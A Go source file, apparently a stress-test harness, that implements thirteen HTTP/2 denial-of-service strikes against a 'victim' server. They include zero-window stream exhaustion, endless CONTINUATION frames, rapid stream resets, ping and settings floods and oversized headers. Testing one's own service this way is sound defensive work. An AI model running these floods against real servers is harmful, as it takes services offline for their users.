package attack

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// peer is an HTTP/2 client that does only what it is told to. It throws away all frames of the
// server except the settings, which it must acknowledge.
type peer struct {
	v    *victim
	conn net.Conn
	out  *http2.Framer
	next uint32
}

// peer opens an HTTP/2 connection on whose streams the server may send window bytes.
func (v *victim) peer(window uint32) *peer {
	p := v.mute(window)
	v.wg.Go(func() { _, _ = io.Copy(io.Discard, p.conn) })
	return p
}

// mute is a peer that reads nothing.
func (v *victim) mute(window uint32) *peer {
	c := v.dial()
	_ = c.SetWriteDeadline(time.Now().Add(20 * time.Second))
	p := &peer{v: v, conn: c, out: http2.NewFramer(c, c), next: 1}
	_, _ = io.WriteString(c, http2.ClientPreface)
	_ = p.out.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	_ = p.out.WriteSettingsAck()
	return p
}

// head is a request's head, encoded.
func (p *peer) head(method, path string, more ...string) []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	enc.SetMaxDynamicTableSize(0)
	fields := append(
		[]string{
			":method", method, ":scheme", "http", ":authority", "x", ":path", path, "authorization",
			"Bearer " + p.v.attacker,
		},
		more...,
	)
	for i := 0; i < len(fields); i += 2 {
		_ = enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return b.Bytes()
}

// begin sends a request's head, and gives its stream. end says that no body follows.
func (p *peer) begin(end bool, head []byte) uint32 {
	stream := p.next
	p.next += 2
	_ = p.out.WriteHeaders(http2.HeadersFrameParam{
		StreamID: stream, BlockFragment: head, EndHeaders: true, EndStream: end,
	})
	return stream
}

// long sends the head of a request without a body in as many frames as it needs.
func (p *peer) long(block []byte) {
	const frame = 16 << 10
	first := block[:min(len(block), frame)]
	_ = p.out.WriteHeaders(http2.HeadersFrameParam{
		StreamID: p.next, BlockFragment: first, EndHeaders: len(first) == len(block), EndStream: true,
	})
	for block = block[len(first):]; len(block) > 0; {
		part := block[:min(len(block), frame)]
		block = block[len(part):]
		_ = p.out.WriteContinuation(p.next, len(block) == 0, part)
	}
	p.next += 2
}

const streams = 250 // the most that a connection may have

// frames are attacks by the means of HTTP/2.
var frames = []attack{
	{name: "pages on streams without a window", prepare: (*victim).manyMemories, strike: func(v *victim) {
		each(8, func(int) {
			p := v.peer(0)
			head := p.head("GET", "/v1/memories_list?capsule_id=mallory&limit=1000")
			for range streams {
				p.begin(true, head)
			}
		})
	}},
	{name: "content on streams without a window", prepare: (*victim).large, strike: func(v *victim) {
		each(8, func(int) {
			p := v.peer(0)
			head := p.head("GET", "/v1/memories_content/"+v.content)
			for range streams {
				p.begin(true, head)
			}
		})
	}},
	{name: "content on streams with a window but no connection's", prepare: (*victim).large, strike: func(v *victim) {
		each(8, func(int) {
			p := v.peer(1 << 20)
			head := p.head("GET", "/v1/memories_content/"+v.content)
			for range streams {
				p.begin(true, head)
			}
		})
	}},
	{name: "puts of the same bytes on many streams", prepare: (*victim).begin, strike: func(v *victim) {
		s := v.session
		each(67, func(int) {
			p := v.peer(1 << 20)
			head := p.head("PUT", fmt.Sprintf("/v1/uploads_put_chunk/%s/0", s), "content-length", fmt.Sprint(1<<20))
			for range streams {
				stream := p.begin(false, head)
				_ = p.out.WriteData(stream, false, []byte("x"))
			}
		})
	}},
	{name: "bodies that fill their windows", prepare: (*victim).begin, strike: func(v *victim) {
		s := v.session
		block := make([]byte, 16<<10)
		each(16, func(i int) {
			p := v.peer(1 << 20)
			for j := range 64 {
				stream := p.begin(false, p.head(
					"PUT", fmt.Sprintf("/v1/uploads_put_chunk/%s/%d", s, i), "content-length", fmt.Sprint(1<<20),
				))
				for range 2 + j%2 {
					_ = p.out.WriteData(stream, false, block)
				}
			}
		})
	}},
	{name: "JSON that stops before its end on many streams", strike: func(v *victim) {
		block := bytes.Repeat([]byte(" "), 16<<10)
		each(8, func(int) {
			p := v.peer(1 << 20)
			head := p.head(
				"POST", "/v1/uploads_finish_batch", "content-type", "application/json", "content-length",
				fmt.Sprint(8<<20),
			)
			for range streams {
				stream := p.begin(false, head)
				for range 8 {
					_ = p.out.WriteData(stream, false, block)
				}
			}
		})
	}},
	{name: "heads in frames that never end", strike: func(v *victim) {
		each(300, func(int) {
			p := v.peer(1 << 20)
			_ = p.out.WriteHeaders(http2.HeadersFrameParam{
				StreamID: 1, BlockFragment: p.head("GET", "/healthz"), EndStream: true,
			})
			for range 16 {
				_ = p.out.WriteContinuation(1, false, p.head("GET", "/healthz")[:10])
			}
		})
	}},
	{name: "streams that are reset at once", strike: func(v *victim) {
		each(8, func(int) {
			p := v.peer(1 << 20)
			head := p.head("GET", "/v1/memories_list?capsule_id=mallory")
			for range 2000 {
				_ = p.out.WriteRSTStream(p.begin(true, head), http2.ErrCodeCancel)
			}
		})
	}},
	{name: "pings and settings without end", strike: func(v *victim) {
		each(8, func(i int) {
			p := v.peer(1 << 20)
			for range 20_000 {
				if i%2 == 0 {
					_ = p.out.WritePing(false, [8]byte{1})
				} else {
					_ = p.out.WriteSettings()
				}
			}
		})
	}},
	{name: "heads that are too long on streams without a window", strike: func(v *victim) {
		each(8, func(int) {
			p := v.peer(0)
			block := p.head("GET", "/healthz", "x", strings.Repeat("x", longest+longest/4))
			for range streams {
				p.long(block)
			}
		})
	}},
	{name: "heads that are just short enough", strike: func(v *victim) {
		each(40, func(int) {
			p := v.peer(0)
			block := p.head("PUT", "/v1/uploads_put_chunk/1/0", "x", strings.Repeat("x", longest-5<<10))
			for range streams {
				p.long(block)
			}
		})
	}},
	{name: "pings whose answers nobody reads", strike: func(v *victim) {
		pings := bytes.Repeat([]byte("\x00\x00\x08\x06\x00\x00\x00\x00\x0012345678"), 500)
		each(200, func(int) {
			p := v.mute(1 << 20)
			send(p.conn, slices.Repeat([][]byte{pings}, 100)...)
		})
	}},
	{name: "data frames of nothing", prepare: (*victim).begin, strike: func(v *victim) {
		s := v.session
		each(8, func(int) {
			p := v.peer(1 << 20)
			stream := p.begin(false, p.head(
				"PUT", fmt.Sprintf("/v1/uploads_put_chunk/%s/0", s), "content-length", fmt.Sprint(1<<20),
			))
			for range 20_000 {
				_ = p.out.WriteData(stream, false, nil)
			}
		})
	}},
}
